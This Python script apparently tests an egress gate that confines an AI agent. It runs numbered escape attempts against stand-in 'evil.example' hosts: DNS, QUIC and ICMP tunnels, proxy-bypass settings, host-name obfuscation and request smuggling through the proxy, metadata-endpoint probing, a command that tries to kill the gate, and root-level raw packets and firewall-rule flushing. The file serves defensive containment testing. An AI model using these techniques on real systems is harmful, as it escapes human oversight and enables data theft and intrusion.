#!/usr/bin/env python3
"""The attempts to get out past the gate, as an agent would make them: `attempts.py run`, `run --root`, `list`.

Each has a number, a mark (`zq007x`) that stands in everything it sends, and an address of its own in each family, so that
the sensors outside (sensors.py) know what arrived of which attempt. What an attempt itself believes does not count and is
only printed. Standard library and the clients at hand; a client that is missing is said, and its attempt counts as not made.

Those of `--root` are made by the agent's root with whatever capabilities the place leaves it.
"""
import concurrent.futures, errno, fcntl, json, os, shutil, socket, ssl, struct, subprocess, sys, time

GATE = os.environ.get('PROOF_GATE', '10.77.0.2')
GATE6 = os.environ.get('PROOF_GATE6', 'fd77::2')
GATE_OUT = os.environ.get('PROOF_GATE_OUT', '203.0.113.2')  # the gate's other address
PORT = int(os.environ.get('PROOF_PORT', '3128'))
ADMIN = int(os.environ.get('PROOF_ADMIN', '9328'))
CANARY = int(os.environ.get('PROOF_CANARY', '9999'))  # a listener beside the gate that nobody should reach through it
CONTROL = os.environ.get('PROOF_CONTROL', '/var/lib/sallyport/sallyport.sock')
HOST = '10.77.0.1'  # what a container engine gives its host in a network, unless told not to
RESOLVER, RESOLVER6 = '203.0.113.53', '2001:db8:51::53'
NEIGHBOUR, NEIGHBOUR6 = '203.0.113.7', '2001:db8:51::7'
ALLOWED = '192.0.2.12'  # git.example, whose tunnel is allowed
WAIT = 2.0  # seconds for each step of an attempt
AT_ONCE = 24
SCANNED = 400  # ports asked at once
ATTEMPTS = []


class Missing(Exception):
    """A client that is not installed here."""


class Attempt:
    """One way out: what it is called, who tries it, and where else than at its own addresses it would be seen."""

    def __init__(self, title, action, root, at):
        self.title, self.action, self.root, self.number = title, action, root, len(ATTEMPTS) + 1
        self.mark = 'zq%03dx' % self.number
        self.v4, self.v6 = '198.51.100.%d' % self.number, '2001:db8:66::%x' % self.number
        self.name = self.mark + '.evil.example'
        self.at = [at(self)] if at else []

    def facts(self):
        return {'number': self.number, 'title': self.title, 'mark': self.mark, 'to': [self.v4, self.v6], 'at': self.at, 'root': self.root}


def attempt(title, root=False, at=None):
    def added(action):
        ATTEMPTS.append(Attempt(title, action, root, at))
        return action
    return added


def each(title, values, root=False, at=None):
    """The same attempt in several spellings."""
    def added(action):
        for word, value in values:
            attempt(title % word, root, at)(lambda a, value=value: action(a, value))
        return action
    return added


# How things are said.

def tcp(address, port, words):
    with socket.create_connection((address, port), timeout=WAIT) as s:
        s.sendall(words)
        return 'connected, ' + said(s)


def said(s):
    s.settimeout(WAIT)
    try:
        return repr(s.recv(200)[:60])
    except OSError as none:
        return 'no word: %s' % none


def udp(address, port, words):
    family = socket.AF_INET6 if ':' in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(WAIT)
        s.connect((address, port))
        s.send(words)
        return 'sent, ' + said(s)


def unverified(alpn=None):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    if alpn:
        context.set_alpn_protocols([alpn])
    return context


def tls(address, port, sni, words, alpn=None):
    with socket.create_connection((address, port), timeout=WAIT) as s:
        with unverified(alpn).wrap_socket(s, server_hostname=sni) as t:
            t.sendall(words)
            return 'TLS, ' + said(t)


def get(host, path, *fields):
    return '\r\n'.join(['GET %s HTTP/1.1' % path, 'Host: ' + host, *fields, '', '']).encode()


def dns(name, kind=1):
    labels = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.'))
    return b'\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00' + labels + b'\0' + struct.pack('!HH', kind, 1)


def long(query):
    return struct.pack('!H', len(query)) + query


def quic(a):
    """The long header of a QUIC version 1 Initial, padded as RFC 9000 section 14.1 asks; the mark is its connection id."""
    return (b'\xc3\x00\x00\x00\x01' + bytes([len(a.mark)]) + a.mark.encode() + b'\0\0' + b'\x44\x96').ljust(1200, b'\0')


def proxy(words, then=b'', six=False):
    """Says something on the proxy's port, and something more when the answer is a success."""
    with socket.create_connection((GATE6 if six else GATE, PORT), timeout=WAIT) as s:
        s.sendall(words)
        s.settimeout(WAIT)
        answer = s.recv(4096)
        first = answer.split(b'\r\n')[0].decode('latin-1')
        if then and b' 200' in answer[:13]:
            s.sendall(then)
            return first + ', ' + said(s)
        return first


def connect(authority, then, six=False):
    if isinstance(authority, str):
        authority = authority.encode()
    return proxy(b'CONNECT ' + authority + b' HTTP/1.1\r\nHost: ' + authority + b'\r\n\r\n', then, six)


def connect_tls(authority, sni, words, alpn=None):
    with socket.create_connection((GATE, PORT), timeout=WAIT) as s:
        s.sendall(('CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n' % (authority, authority)).encode())
        s.settimeout(WAIT)
        first = s.recv(4096).split(b'\r\n')[0].decode('latin-1')
        if ' 200' not in first:
            return first
        with unverified(alpn).wrap_socket(s, server_hostname=sni) as t:
            t.sendall(words)
            return first + ', ' + said(t)


def program(*command, **environment):
    """A real client. It has its own ideas about proxies, certificates and retries."""
    if not shutil.which(command[0]):
        raise Missing('no %s here' % command[0])
    kept = {k: v for k, v in {**os.environ, **environment}.items() if v is not None}
    done = subprocess.run(command, env=kept, stdin=subprocess.DEVNULL, capture_output=True, timeout=2 * WAIT)
    return 'ended with %d: %s' % (done.returncode, (done.stderr or done.stdout).decode('utf-8', 'replace').strip()[-90:])


CLEARED = {k: None for k in ('http_proxy', 'https_proxy', 'HTTP_PROXY', 'HTTPS_PROXY', 'ALL_PROXY', 'all_proxy', 'NODE_USE_ENV_PROXY')}


def interfaces():
    return [name for _, name in socket.if_nameindex() if name != 'lo']


# Straight out.

@each('TCP to port %s over IPv4', [(p, p) for p in (443, 80, 8443, 3128, 22, 25, 65000)])
def _(a, port): return tcp(a.v4, port, get(a.name, '/'))

@each('TCP to port %s over IPv6', [(p, p) for p in (443, 80, 8080, 22)])
def _(a, port): return tcp(a.v6, port, get(a.name, '/'))

@attempt('TLS under the name of an allowed host, straight to another address')
def _(a): return tls(a.v4, 443, 'docs.example.org', get(a.name, '/'))

@attempt('DNS over UDP, IPv4')
def _(a): return udp(RESOLVER, 53, dns(a.name))

@attempt('DNS over UDP, IPv6')
def _(a): return udp(RESOLVER6, 53, dns(a.name, 28))

@attempt('DNS over TCP, IPv4')
def _(a): return tcp(RESOLVER, 53, long(dns(a.name)))

@attempt('DNS over TCP, IPv6')
def _(a): return tcp(RESOLVER6, 53, long(dns(a.name, 28)))

@attempt('DNS over TLS')
def _(a): return tls(a.v4, 853, a.name, long(dns(a.name)))

@attempt('DNS over HTTPS, straight')
def _(a): return tls(a.v6, 443, a.name, get(a.name, '/dns-query?dns=' + a.mark))

@attempt('a name looked up by the system')
def _(a): return socket.getaddrinfo(a.name, 443)[0][4][0]

@attempt('a TXT record asked of an outside resolver on another port')
def _(a): return udp(a.v4, 5353, dns(a.name, 16))

@attempt('QUIC over IPv4')
def _(a): return udp(a.v4, 443, quic(a))

@attempt('QUIC over IPv6')
def _(a): return udp(a.v6, 443, quic(a))

@each('UDP to port %s over IPv4', [('51820 (WireGuard)', 51820), ('123 (NTP)', 123), ('3478 (STUN)', 3478)])
def _(a, port): return udp(a.v4, port, a.mark.encode())

@attempt('UDP to port 123 (NTP) over IPv6')
def _(a): return udp(a.v6, 123, a.mark.encode())

@attempt('an ICMP echo with data in it')
def _(a):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
        s.settimeout(WAIT)
        s.sendto(b'\x08\0\0\0\0\1\0\1' + a.mark.encode(), (a.v4, 0))
        return 'sent, ' + said(s)

@attempt('an ICMPv6 echo with data in it')
def _(a):
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, 58) as s:
        s.settimeout(WAIT)
        s.sendto(b'\x80\0\0\0\0\1\0\1' + a.mark.encode(), (a.v6, 0))
        return 'sent, ' + said(s)

@attempt('ssh, with git on top', at=lambda a: [a.v4, 22])
def _(a): return program('git', 'ls-remote', 'ssh://git@%s/%s.git' % (a.v4, a.mark), GIT_SSH_COMMAND='ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=2')

@attempt('git over its own protocol')
def _(a): return program('git', 'ls-remote', 'git://%s/%s.git' % (a.v4, a.mark))

@attempt('curl with the proxy variables cleared')
def _(a): return program('curl', '-sSk', '-m', '2', 'https://%s/' % a.name, **CLEARED)

@attempt("curl --noproxy '*' to an address")
def _(a): return program('curl', '-sSk', '-m', '2', '--noproxy', '*', 'https://%s/' % a.v4)

@attempt("curl --noproxy '*' to an IPv6 address")
def _(a): return program('curl', '-sSkg', '-m', '2', '--noproxy', '*', 'https://[%s]/' % a.v6)

@attempt('NO_PROXY=*')
def _(a): return program('curl', '-sSk', '-m', '2', 'https://%s/' % a.v4, NO_PROXY='*', no_proxy='*')

@attempt('curl over gopher')
def _(a): return program('curl', '-sS', '-m', '2', '--noproxy', '*', 'gopher://%s:70/1%s' % (a.v4, a.mark))

@attempt('node, which knows no proxy by itself')
def _(a): return program('node', '-e', "fetch('http://%s/').then(r => console.log(r.status), e => console.log(e.cause.code))" % a.v4, **CLEARED)

@attempt('python with an empty proxy handler')
def _(a): return program(sys.executable, '-c', "import urllib.request as u; print(u.build_opener(u.ProxyHandler({})).open('http://%s/', timeout=2).status)" % a.v4)

# Through the gate, to whom it does not know.

@attempt('CONNECT to a host that is not listed')
def _(a): return connect(a.name + ':443', get(a.name, '/'))

@attempt('the same over IPv6 to the gate')
def _(a): return connect(a.name + ':443', get(a.name, '/'), six=True)

@attempt('DNS over HTTPS through the gate, to a resolver that is not listed')
def _(a): return connect_tls(a.name + ':443', a.name, get(a.name, '/dns-query?dns=' + a.mark))

@attempt('DNS over HTTPS in clear through the gate, to an address')
def _(a): return proxy(get(a.v4, 'http://%s/dns-query?dns=%s' % (a.v4, a.mark)))

SPELLED = [
    ('as an IPv4 address', lambda a: a.v4),
    ('as an IPv6 address', lambda a: '[%s]' % a.v6),
    ('as IPv4 within IPv6', lambda a: '[::ffff:%s]' % a.v4),
    ('as a decimal number', lambda a: str(int.from_bytes(socket.inet_aton(a.v4)))),
    ('as a hexadecimal number', lambda a: '0x' + socket.inet_aton(a.v4).hex()),
    ('in octal', lambda a: '.'.join('0%o' % o for o in socket.inet_aton(a.v4))),
    ('with three numbers', lambda a: '198.51.%d' % (100 * 256 + a.number)),
    ('with a dot behind it', lambda a: a.name + '.'),
    ('in capitals', lambda a: a.name.upper()),
    ('with ideographic dots', lambda a: a.name.replace('.', '。')),
    ('in percent encoding', lambda a: a.name.replace('.', '%2e')),
    ('behind an allowed name as a user', lambda a: 'docs.example.org@' + a.name),
    ('with an allowed name in front', lambda a: 'docs.example.org.' + a.name),
    ('as a label below an allowed host', lambda a: a.mark + '.docs.example.org'),
    ('as an ending that looks alike', lambda a: a.mark + 'docs.example.org'),
    ('with an underscore', lambda a: '_dns.' + a.name),
]

@each('a host %s', SPELLED)
def _(a, spell): return connect((spell(a) + ':443').encode(), get(a.name, '/'))

@attempt('plain http to a host that is not listed')
def _(a): return proxy(get(a.name, 'http://%s/%s' % (a.name, a.mark)))

@attempt('plain http to an allowed host with another Host field')
def _(a): return proxy(get(a.name, 'http://plain.example/'))

@attempt('plain http to an allowed host on another port')
def _(a): return proxy(get('plain.example:8080', 'http://plain.example:8080/' + a.mark))

@attempt('https in clear')
def _(a): return proxy(get(a.name, 'https://%s:80/' % a.name))

@attempt('a request for the proxy itself with a foreign Host')
def _(a): return proxy(get(a.name, '/' + a.mark))

@attempt('HTTP/2 without asking, on the proxy port')
def _(a):
    field = lambda name, value: b'\x10' + bytes([len(name)]) + name + bytes([len(value)]) + value
    block = field(b':method', b'CONNECT') + field(b':authority', (a.name + ':443').encode())
    return proxy(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + b'\0\0\0\4\0\0\0\0\0' + len(block).to_bytes(3, 'big') + b'\1\4\0\0\0\1' + block)

def socks5(a, kind, address, port, words):
    """RFC 1928, without credentials."""
    with socket.create_connection((GATE, PORT), timeout=WAIT) as s:
        s.settimeout(WAIT)
        s.sendall(b'\5\1\0')
        if s.recv(2) != b'\5\0':
            return 'no SOCKS without credentials'
        s.sendall(b'\5\1\0' + kind + address + struct.pack('!H', port))
        answer = s.recv(100)
        if answer[1:2] == b'\0':
            s.sendall(words)
        return 'SOCKS5 says %s, %s' % (answer[1:2].hex(), said(s))

@attempt('SOCKS5 to a host that is not listed')
def _(a): return socks5(a, b'\3', bytes([len(a.name)]) + a.name.encode(), 443, get(a.name, '/'))

@attempt('SOCKS5 to an IPv4 address')
def _(a): return socks5(a, b'\1', socket.inet_aton(a.v4), 443, get(a.name, '/'))

@attempt('SOCKS5 to an IPv6 address')
def _(a): return socks5(a, b'\4', socket.inet_pton(socket.AF_INET6, a.v6), 443, get(a.name, '/'))

@attempt("SOCKS5 to the gate's own loopback")
def _(a): return socks5(a, b'\1', socket.inet_aton('127.0.0.1'), CANARY, a.mark.encode())

@attempt('ssh over SOCKS5 to an allowed host')
def _(a): return socks5(a, b'\3', b'\x0bgit.example', 443, b'SSH-2.0-' + a.mark.encode() + b'\r\n')

@attempt('SOCKS4 with a name')
def _(a): return proxy(b'\4\1\1\xbb\0\0\0\1\0' + a.name.encode() + b'\0')

@attempt("a CONNECT that claims another client's address (PROXY protocol)")
def _(a): return proxy(('PROXY TCP4 127.0.0.1 127.0.0.1 9 3128\r\nCONNECT %s:443 HTTP/1.1\r\nHost: x\r\n\r\n' % a.name).encode(), get(a.name, '/'))

WEBSOCKET = ('Upgrade: websocket', 'Connection: Upgrade', 'Sec-WebSocket-Version: 13', 'Sec-WebSocket-Key: c2FsbHlwb3J0IHByb29mIQ==')

@attempt('a WebSocket through the proxy port')
def _(a): return proxy(get(a.name, 'http://%s/ws' % a.name, *WEBSOCKET))

@attempt('words behind a 101 of an allowed host')
def _(a):
    with socket.create_connection((GATE, PORT), timeout=WAIT) as s:
        s.sendall(get('plain.example', 'http://plain.example/ws', *WEBSOCKET))
        first = said(s)
        if '101' in first:
            s.sendall(b'\x81\x06' + a.mark.encode())
        return first

@attempt('a second request hidden by two lengths')
def _(a): return proxy(b'POST http://plain.example/ HTTP/1.1\r\nHost: plain.example\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' + get(a.name, 'http://%s/' % a.name))

@attempt('a folded field that hides another')
def _(a): return proxy(b'GET http://plain.example/ HTTP/1.1\r\nHost: plain.example\r\nX: y\r\n Host: ' + a.name.encode() + b'\r\n\r\n')

@attempt('words sent before the answer to a refused CONNECT')
def _(a): return proxy(('CONNECT %s:443 HTTP/1.1\r\nHost: x\r\n\r\n' % a.name).encode() + a.mark.encode())

# Through the gate, in the name of a host that it knows.

@attempt('TLS for another name in the tunnel of an allowed host')
def _(a): return connect_tls('git.example:443', a.name, get(a.name, '/'))

@attempt('TLS without a name in the tunnel of an allowed host, data in its ALPN')
def _(a): return connect_tls('git.example:443', None, get(a.name, '/'), alpn=a.mark)

@attempt('no TLS at all in the tunnel of an allowed host')
def _(a): return connect('git.example:443', get(a.name, '/'))

@attempt('ssh in the tunnel of an allowed host')
def _(a): return connect('git.example:443', b'SSH-2.0-' + a.mark.encode() + b'\r\n')

@each('a tunnel to port %s of an allowed host', [(p, p) for p in (22, 25, 53, 8443)])
def _(a, port): return connect('git.example:%d' % port, b'SSH-2.0-' + a.mark.encode() + b'\r\n')

@attempt('another Host within the TLS of an allowed host (fronting)')
def _(a): return connect_tls('docs.example.org:443', 'docs.example.org', get(a.name, '/' + a.mark))

@attempt('a path that is not listed at an allowed host')
def _(a): return connect_tls('docs.example.org:443', 'docs.example.org', get('docs.example.org', '/upload?' + a.mark))

@attempt('an upload to a host that is for reading')
def _(a): return connect_tls('docs.example.org:443', 'docs.example.org', b'POST /guide HTTP/1.1\r\nHost: docs.example.org\r\nContent-Length: 6\r\n\r\n' + a.mark.encode())

# The gate itself, its machine, its neighbours.

@attempt("the gate's admin port", at=lambda a: ['gate', GATE, ADMIN])
def _(a): return tcp(GATE, ADMIN, get('localhost', '/metrics?' + a.mark))

@attempt("the gate's admin port over IPv6", at=lambda a: ['gate', GATE6, ADMIN])
def _(a): return tcp(GATE6, ADMIN, get('localhost', '/metrics?' + a.mark))

@attempt("the gate's other ports, one after the other", at=lambda a: ['gate', GATE, 'other'])
def _(a):
    wanted = [p for p in [*range(1, 1025), *range(8000, 8100), 2375, 2376, 5432, 6379, *range(9000, 10000)] if p not in (PORT, ADMIN, CANARY)]
    open_ports = []
    for at in range(0, len(wanted), SCANNED):
        sockets = {}
        for port in wanted[at:at + SCANNED]:
            s = socket.socket()
            s.setblocking(False)
            s.connect_ex((GATE, port))
            sockets[s] = port
        time.sleep(0.2)
        for s, port in sockets.items():
            if s.connect_ex((GATE, port)) in (0, errno.EISCONN):
                open_ports.append(port)
                s.send(a.mark.encode())
            s.close()
    return 'open: %s' % open_ports

@attempt('the gate as a resolver')
def _(a): return udp(GATE, 53, dns(a.name))

@attempt('the gate as a resolver, IPv6')
def _(a): return udp(GATE6, 53, dns(a.name))

OWN = ['127.0.0.1', 'localhost', '[::1]', '0.0.0.0', '[::]', '127.1', '2130706433', '[::ffff:127.0.0.1]', '127.255.0.1', GATE, '[%s]' % GATE6, GATE_OUT]

@each('through the gate to its own %s', [(own, own) for own in OWN])
def _(a, own): return connect('%s:%d' % (own, CANARY), a.mark.encode())

@attempt("through the gate to its admin port")
def _(a): return proxy(get('127.0.0.1:%d' % ADMIN, 'http://127.0.0.1:%d/metrics?%s' % (ADMIN, a.mark)))

@attempt("the gate's control socket")
def _(a):
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(WAIT)
        s.connect(CONTROL)
        s.sendall(json.dumps({'command': 'kill', 'arguments': {'reason': a.mark}}).encode() + b'\n')
        return said(s)

@attempt('the metadata address', at=lambda a: ['169.254.169.254', 80])
def _(a): return tcp('169.254.169.254', 80, get('metadata', '/latest/meta-data/' + a.mark))

@attempt('the metadata address over IPv6')
def _(a): return tcp('fd00:ec2::254', 80, get('metadata', '/latest/meta-data/' + a.mark))

@attempt('CONNECT to the metadata address')
def _(a): return connect('169.254.169.254:80', get('metadata', '/' + a.mark))

@attempt('plain http to the metadata address through the gate')
def _(a): return proxy(get('169.254.169.254', 'http://169.254.169.254/latest/meta-data/' + a.mark))

@attempt('CONNECT to the metadata address over IPv6')
def _(a): return connect('[fd00:ec2::254]:80', get('metadata', '/' + a.mark))

@attempt('CONNECT to a private address')
def _(a): return connect('10.99.0.9:443', get('intranet', '/' + a.mark))

@attempt('a neighbour', at=lambda a: [NEIGHBOUR, 5432])
def _(a): return tcp(NEIGHBOUR, 5432, a.mark.encode())

@attempt('a neighbour over IPv6', at=lambda a: [NEIGHBOUR6, 5432])
def _(a): return tcp(NEIGHBOUR6, 5432, a.mark.encode())

@attempt('a neighbour by its name through the gate')
def _(a): return connect('db.example:5432', a.mark.encode())

@attempt('a neighbour by its address through the gate')
def _(a): return proxy(get(NEIGHBOUR, 'http://%s:5432/%s' % (NEIGHBOUR, a.mark)))

@attempt("the host's address in the agent's network", at=lambda a: [HOST, 2375])
def _(a): return tcp(HOST, 2375, get('docker', '/containers/json?' + a.mark))

@attempt('the host as a resolver', at=lambda a: [HOST, 53])
def _(a): return udp(HOST, 53, dns(a.name))

# To everybody on the wire.

@each('multicast to %s', [('mDNS', ('224.0.0.251', 5353)), ('SSDP', ('239.255.255.250', 1900)), ('everybody (broadcast)', ('255.255.255.255', 9))])
def _(a, to):
    for name in interfaces():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            index = socket.if_nametoindex(name)
            s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, struct.pack('4s4si', b'\0' * 4, b'\0' * 4, index))
            own = own_address(s, name)
            if own:
                s.bind((own, 0))
            try:
                s.sendto(a.mark.encode(), to)
            except OSError:
                pass

def own_address(s, name):
    try:
        return socket.inet_ntoa(fcntl.ioctl(s, 0x8915, struct.pack('256s', name.encode()))[20:24])
    except OSError:
        return None

@each('multicast to %s', [('all nodes (ff02::1)', ('ff02::1', 9)), ('mDNS over IPv6 (ff02::fb)', ('ff02::fb', 5353))])
def _(a, to):
    for name in interfaces():
        with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
            try:
                s.sendto(a.mark.encode(), (*to, 0, socket.if_nametoindex(name)))
            except OSError:
                pass

@attempt('a link-local address of the next machine')
def _(a):
    for name in interfaces():
        with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
            try:
                s.sendto(a.mark.encode(), ('fe80::51', 9, 0, socket.if_nametoindex(name)))
            except OSError:
                pass
    time.sleep(0.5)  # the neighbour has to be found first

# With more rights than an agent should have.

@attempt('a user namespace of its own, and the rules and routes from there')
def _(a):
    first = program('unshare', '-Urn', 'sh', '-c', 'nft flush ruleset; ip route add default via ' + GATE)
    try:
        return first + '; ' + tcp(a.v4, 443, a.mark.encode())
    except OSError as failed:
        return '%s; %s' % (first, failed)


def raw(a, protocol, payload, six=False):
    with socket.socket(socket.AF_INET6 if six else socket.AF_INET, socket.SOCK_RAW, protocol) as s:
        s.sendto(payload + a.mark.encode(), (a.v6 if six else a.v4, 0))
        return 'sent'

PORTS = struct.pack('!HH', 4000, 443)

@each('root: raw packets, %s', [('SCTP', (132, PORTS + b'\0' * 8)), ('DCCP', (33, PORTS + b'\0' * 12)), ('UDP-Lite', (136, PORTS + b'\0' * 4)), ('GRE', (47, b'\0\0\x08\0')), ('IP in IP', (4, b'')), ('an unknown protocol', (253, b''))], root=True)
def _(a, what): return raw(a, *what)

@each('root: raw packets over IPv6, %s', [('SCTP', (132, PORTS + b'\0' * 8)), ('ICMPv6 of a kind of its own', (58, b'\xc8\0\0\0')), ('an unknown protocol', (253, b''))], root=True)
def _(a, what): return raw(a, *what, six=True)


def checksum(octets):
    total = sum(struct.unpack('!%dH' % (len(octets) // 2), octets))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def ip_packet(a, source, words):
    datagram = struct.pack('!HHHH', 4000, 443, 8 + len(words), 0) + words
    head = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(datagram), 1, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(a.v4))
    return head[:10] + struct.pack('!H', checksum(head)) + head[12:] + datagram

@attempt("root: a packet with somebody else's source address", root=True)
def _(a):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        s.sendto(ip_packet(a, GATE_OUT, a.mark.encode()), (a.v4, 0))
        return 'sent'


def next_machines(name):
    """Link addresses that this interface has heard of, and everybody's."""
    with open('/proc/net/arp') as table:
        known = [line.split()[3] for line in table if line.split()[5] == name and line.split()[2] != '0x0']
    return [bytes.fromhex(m.replace(':', '')) for m in known] + [b'\xff' * 6]


def frames(a, bypass):
    for name in interfaces():
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
            if bypass:
                s.setsockopt(263, 20, 1)  # SOL_PACKET, PACKET_QDISC_BYPASS
            s.bind((name, 0))
            own = s.getsockname()[4]
            for machine in next_machines(name):
                s.send(machine + own + b'\x08\0' + ip_packet(a, '203.0.113.99', a.mark.encode()))
    return 'sent'

@attempt('root: frames laid on the wire by hand', root=True)
def _(a): return frames(a, False)

@attempt('root: the same past the queues', root=True)
def _(a): return frames(a, True)

@attempt('root: frames of a kind of their own', root=True)
def _(a):
    for name in interfaces():
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
            s.bind((name, 0))
            s.send(b'\xff' * 6 + s.getsockname()[4] + b'\x88\xb5' + a.mark.encode().ljust(46, b'\0'))
    return 'sent'


def shell(a, script, *after):
    first = program('sh', '-c', script)
    for step in after:
        try:
            return first + '; ' + step()
        except OSError as failed:
            first += '; %s' % failed
    return first

@attempt('root: a route of its own through the gate', root=True)
def _(a): return shell(a, 'ip route add %s via %s' % (a.v4, GATE), lambda: tcp(a.v4, 443, a.mark.encode()))

@attempt('root: a route of its own through the gate, IPv6', root=True)
def _(a): return shell(a, 'ip route add %s via %s' % (a.v6, GATE6), lambda: tcp(a.v6, 443, a.mark.encode()))

@attempt("root: an address of the gate's other network", root=True)
def _(a): return shell(a, 'for i in $(ls /sys/class/net | grep ^eth); do ip addr add 203.0.113.%d/24 dev $i; ip route replace %s via %s dev $i; done' % (100 + a.number % 100, a.v4, RESOLVER), lambda: udp(a.v4, 443, a.mark.encode()))

@attempt("root: the gate's admin port at its other address", root=True, at=lambda a: ['gate', GATE_OUT, ADMIN])
def _(a): return shell(a, 'ip route add %s via %s' % (GATE_OUT, GATE), lambda: tcp(GATE_OUT, ADMIN, get('localhost', '/metrics?' + a.mark)))

@attempt('root: a virtual network card beside the first', root=True)
def _(a): return shell(a, 'for i in $(ls /sys/class/net | grep ^eth); do ip link add link $i name m%d-$i type macvlan && ip link set m%d-$i up && ip route replace %s dev m%d-$i; done' % (a.number, a.number, a.v4, a.number), lambda: udp(a.v4, 443, a.mark.encode()))

@attempt('root: the rules thrown away', root=True)
def _(a): return shell(a, 'nft flush ruleset; iptables -F; ip6tables -F; sysctl -w net.ipv4.ip_forward=1', lambda: tcp(a.v4, 443, a.mark.encode()), lambda: tcp(a.v6, 443, a.mark.encode()))


def made(a):
    began = time.time()
    try:
        outcome = a.action(a) or 'done'
    except Missing as missing:
        outcome = 'NOT MADE: %s' % missing
    except subprocess.TimeoutExpired:
        outcome = 'nothing in time'
    except Exception as failed:  # whatever stops an attempt is what it reports
        outcome = '%s: %s' % (type(failed).__name__, failed)
    return {'number': a.number, 'outcome': outcome, 'seconds': round(time.time() - began, 2)}


def main():
    if sys.argv[1:] == ['list']:
        print(json.dumps([a.facts() for a in ATTEMPTS]))
        return
    root = sys.argv[1:] == ['run', '--root']
    with concurrent.futures.ThreadPoolExecutor(AT_ONCE) as pool:
        for outcome in pool.map(made, [a for a in ATTEMPTS if a.root == root]):
            print(json.dumps(outcome), flush=True)


if __name__ == '__main__':
    main()
